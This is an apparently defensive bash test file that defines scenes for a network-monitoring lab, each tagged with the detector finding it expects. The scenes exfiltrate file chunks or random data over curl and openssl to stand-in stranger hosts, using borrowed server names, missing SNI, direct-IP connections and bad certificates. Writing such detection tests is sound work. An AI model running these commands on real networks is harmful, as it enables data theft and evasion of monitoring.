# shellcheck shell=bash disable=SC1091,SC2016,SC2034,SC2154
# Names that do not fit.
scene name-borrowed exfil 'unapproved NII-0007:name-not-answered' curl,nginx 'TLS to a stranger under the name of the approved server; no DNS answer gave it.'
s_name_borrowed() { send nii7 https://images.aduana.example/x "$(file 40)" --resolve "images.aduana.example:443:$STRANGER" -k; }
scene name-none exfil 'unapproved BAG-0003:tls-without-name BAG-0003:direct-to-address?' openssl,nginx 'TLS without a server name.'
s_name_none() { (printf 'PUT /x HTTP/1.0\r\nContent-Length: 30000\r\n\r\n'; head -c 30000 /dev/urandom; sleep 0.5) | lab_in bag3 timeout 5 openssl s_client -quiet -noservername -connect "$STRANGER:443" >/dev/null 2>&1; return 0; }
scene name-address exfil 'unapproved NII-0008:direct-to-address NII-0008:tls-without-name?' curl,nginx 'TLS straight to an address.'
s_name_address() { send nii8 "https://$STRANGER/x" "$(file 30)" -k; }
scene name-self-signed exfil 'unapproved NII-0008:certificate-self-signed' curl,nginx 'A self-signed certificate (TLS 1.2, where it can be seen).'
s_name_self_signed() { send nii8 "https://$PULLER/x" "$(file 30)" -k --tls-max 1.2; }
scene name-certificate exfil 'unapproved BAG-0004:certificate-mismatch' curl,nginx 'A certificate for another name (TLS 1.2).'
s_name_certificate() { send bag4 https://wide.example/x "$(file 30)" -k --tls-max 1.2; }
scene name-ip-http exfil 'unapproved BAG-0003' curl,nginx 'HTTP straight to an address.'
s_name_ip_http() { send bag3 "http://$REMOTE/x" "$(file 40)"; }
